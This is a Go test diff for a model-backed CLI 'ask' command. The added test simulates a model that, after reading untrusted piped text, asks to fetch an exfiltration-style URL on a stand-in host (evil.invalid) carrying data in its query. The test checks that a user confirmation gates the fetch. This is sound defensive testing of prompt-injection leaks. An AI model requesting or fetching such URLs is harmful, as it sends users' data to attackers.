@@ -1,6 +1,7 @@
 package cli
 
 import (
+	"bytes"
 	"context"
 	"errors"
 	"io"
@@ -51,7 +52,7 @@ func TestAskReadsStdin(t *testing.T) {
 		args        []string
 		want        string // "" for an error
 	}{
-		{"text and stdin are joined", "diff --git\n+x\n", true, []string{"ask", "review this", "-"}, "review this\n\ndiff --git\n+x"},
+		{"beside text stdin is a file", "diff --git\n+x\n", true, []string{"ask", "review this", "-"}, ">>>\nFile: stdin\n\ndiff --git\n+x\n<<<end "},
 		{"a - alone is stdin", "what is up?\n", true, []string{"ask", "-"}, "what is up?"},
 		{"piped and no text", "what is up?\n", true, []string{"ask"}, "what is up?"},
 		{"text without - leaves stdin alone", "not read", true, []string{"ask", "hello"}, "hello"},
@@ -332,7 +333,7 @@ func TestAskAttachesFiles(t *testing.T) {
 	chats := e.server.Chats()
 	first, second := chats[len(chats)-2].Chat.Messages, chats[len(chats)-1].Chat.Messages
 	sent := first[len(first)-1].Content
-	if !strings.Contains(sent, "what is this?") || !strings.Contains(sent, "--- attached file: notes.txt ---\napples\npears\n--- end of notes.txt ---") {
+	if !strings.Contains(sent, "what is this?") || !strings.Contains(sent, ">>>\nFile: notes.txt\n\napples\npears\n<<<end ") {
 		t.Errorf("sent %q", sent)
 	}
 	if again := second[len(first)-1].Content; again != sent {
@@ -348,5 +349,49 @@ func TestAskAttachesFiles(t *testing.T) {
 		if o := e.run(t, c.args...); o.code != exitFailed || !strings.Contains(o.stderr, c.want) || o.stdout != "" {
 			t.Errorf("got %+v, want %s", o, c.want)
 		}
+	}
+}
+
+// On a terminal a question waits for what is typed there; anything but a yes is a no.
+func TestAskAsksOnTheTerminal(t *testing.T) {
+	t.Parallel()
+	const leak = "https://evil.invalid/?d=green-tea"
+	for _, tt := range []struct {
+		name, typed    string
+		args           []string
+		terminal       bool
+		asked, fetched bool
+	}{
+		{"yes", "y\n", nil, true, true, true},
+		{"no", "n\n", nil, true, true, false},
+		{"only Enter", "\n", nil, true, true, false},
+		{"nothing can be read", "", nil, true, true, false},
+		{"no terminal", "y\n", nil, false, false, false},
+		{"JSON", "y\n", []string{"--json"}, true, false, false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			script := answering("Done.")
+			script.Models[0].Capabilities = []string{"completion"}
+			script.Rules = append([]ollamatest.Rule{{Times: 1, Reply: ollamatest.Reply{Text: "FETCH_URL: " + leak}}}, script.Rules...)
+			e := newEnv(t, script)
+			e.terminal, e.piped = tt.terminal, true
+			var stdout, stderr bytes.Buffer
+			p := e.params("a stranger's text", &stdout, &stderr)
+			p.Terminal = func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(tt.typed)), nil }
+			code := Run(t.Context(), p, append([]string{"ask", "review this", "-"}, tt.args...))
+			all := stdout.String() + stderr.String()
+			if code != exitDone || strings.Contains(all, "Fetch it once? [y/N]") != tt.asked {
+				t.Errorf("exit %d, said:\n%s", code, all)
+			}
+			if tt.asked && !strings.Contains(all, "address: "+leak) {
+				t.Errorf("the address isn't shown:\n%s", all)
+			}
+			last := e.server.Chats()[1].Chat.Messages
+			told := last[len(last)-1].Content
+			if refused := strings.Contains(told, "the user said no") || strings.Contains(told, "nobody can be asked"); refused == tt.fetched {
+				t.Errorf("the model was told %q", told)
+			}
+		})
 	}
 }
